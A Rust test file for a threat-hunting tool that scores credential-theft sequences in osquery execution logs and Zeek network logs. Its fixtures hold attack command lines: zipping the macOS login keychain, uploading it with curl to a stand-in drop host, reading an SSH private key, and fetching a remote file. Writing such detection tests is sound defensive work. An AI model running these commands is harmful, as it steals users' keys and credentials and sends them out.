//! Executions alone, as the audit trail tells them (`process_events` of osquery): no forks, no ends, pids without versions.

use serde_json::{Value, json};

use crate::program::{hunt_json, run};

const START: i64 = 1_763_370_000;

fn row(at: i64, pid: u32, parent: u32, path: &str, line: &str) -> String {
    let columns = json!({
        "auid": "501", "cmdline": line, "cwd": "/Users/ana", "egid": "20", "euid": "501", "gid": "20", "uid": "501",
        "parent": parent.to_string(), "path": path, "pid": pid.to_string(), "status": "0", "syscall": "execve",
        "time": (START + at).to_string(), "eid": format!("{at:08}"),
    });
    json!({ "name": "pack_pe", "hostIdentifier": "mac1", "unixTime": START + at + 10, "columns": columns, "action": "added" }).to_string()
}

fn connection(at: i64) -> String {
    let ends = json!({ "id.orig_h": "10.0.0.5", "id.orig_p": 51000, "id.resp_h": "203.0.113.62", "id.resp_p": 443 });
    let with = |mut more: Value| {
        more.as_object_mut().unwrap().extend(ends.as_object().unwrap().clone());
        more.to_string()
    };
    let flow = with(
        json!({ "_path": "conn", "ts": START + at, "uid": "C1", "proto": "tcp", "service": "ssl", "duration": 3.0, "orig_bytes": 3_801_000, "resp_bytes": 900 }),
    );
    let tls = with(
        json!({ "_path": "ssl", "ts": START + at, "uid": "C1", "version": "TLSv13", "server_name": "drop.example.org", "established": true }),
    );
    format!("{flow}\n{tls}\n")
}

/// A folder with a log of these rows.
fn logged(rows: &[String]) -> (tempfile::TempDir, std::path::PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("osqueryd.results.log");
    std::fs::write(&log, rows.join("\n")).unwrap();
    (folder, log)
}

/// Level and score of each finding.
fn hunted(rows: &[String], network: &str) -> Vec<(String, u64)> {
    let (folder, _) = logged(rows);
    std::fs::write(folder.path().join("zeek.log"), network).unwrap();
    let findings = hunt_json(folder.path(), &[]);
    findings.iter().map(|finding| (finding["level"].as_str().unwrap().to_owned(), finding["score"].as_u64().unwrap())).collect()
}

const DAYS: i64 = 86_400;

#[test]
fn a_theft_is_found_though_nothing_tells_how_its_processes_end() {
    let rows = [
        row(0, 500, 400, "/bin/zsh", "-zsh"),
        row(10, 501, 500, "/usr/bin/ditto", "ditto -c -k /Users/ana/Library/Keychains/login.keychain-db /tmp/out.zip"),
        row(20, 502, 500, "/usr/bin/curl", "curl -F file=@/tmp/out.zip https://drop.example.org/up"),
        row(2 * DAYS, 503, 500, "/bin/ls", "ls"),
    ];
    // weight 95 x 50 / 100 = 47, archive 10, near 10, unproven 5, outward 5; no signature tells that curl is a tool, but its name does: 5.
    assert_eq!(hunted(&rows, &connection(21)), [("CRITICAL".to_owned(), 82)]);
}

#[test]
fn a_pid_of_days_ago_is_another_process() {
    let read = row(10, 501, 400, "/bin/cat", "cat /Users/ana/.ssh/id_ed25519");
    let fetch = "curl -fsSL https://drop.example.org/x -o /tmp/x";
    // Its child, by a pid that somebody else has by now; the same pid under another parent, soon and late, and as an orphan.
    let later = [
        [row(2 * DAYS, 502, 501, "/usr/bin/curl", fetch), String::new()],
        [row(900, 501, 700, "/usr/bin/curl", fetch), String::new()],
        [row(2 * DAYS, 501, 700, "/usr/bin/curl", fetch), String::new()],
        [row(2 * DAYS, 501, 1, "/bin/bash", "bash update.sh"), row(2 * DAYS + 1, 502, 501, "/usr/bin/curl", fetch)],
    ];
    for [first, second] in later {
        let at = if first.contains(&(START + 900).to_string()) { 901 } else { 2 * DAYS + 2 };
        let found = hunted(&[read.clone(), first.clone(), second], &connection(at));
        assert!(found.iter().all(|(level, _)| level == "LOW"), "{first}: {found:?}");
    }
}

#[test]
fn what_arguments_stand_for_is_told_of_the_execution_that_they_stood_in() {
    let rows = [
        row(0, 500, 400, "/bin/zsh", "-zsh"),
        row(10, 501, 500, "/bin/cat", "cat /Users/ana/.ssh/id_ed25519"),
        // Judges, by its time alone, what the other was told to read.
        row(7_200, 502, 500, "/bin/ls", "ls"),
    ];
    let (folder, log) = logged(&rows);
    let told = |offset: usize| {
        let said = run(&["explain", "--event", &format!("{}:{offset}", log.display()), folder.path().to_str().unwrap()]);
        assert_eq!(said.code, Some(0), "{}", said.err);
        said.out
    };
    let second = rows[0].len() + 1;
    let third = second + rows[1].len() + 1;
    assert!(told(second).contains("the path is sensitive: ssh-keys, weight 95"), "{}", told(second));
    assert!(!told(third).contains("sensitive"), "{}", told(third));
}
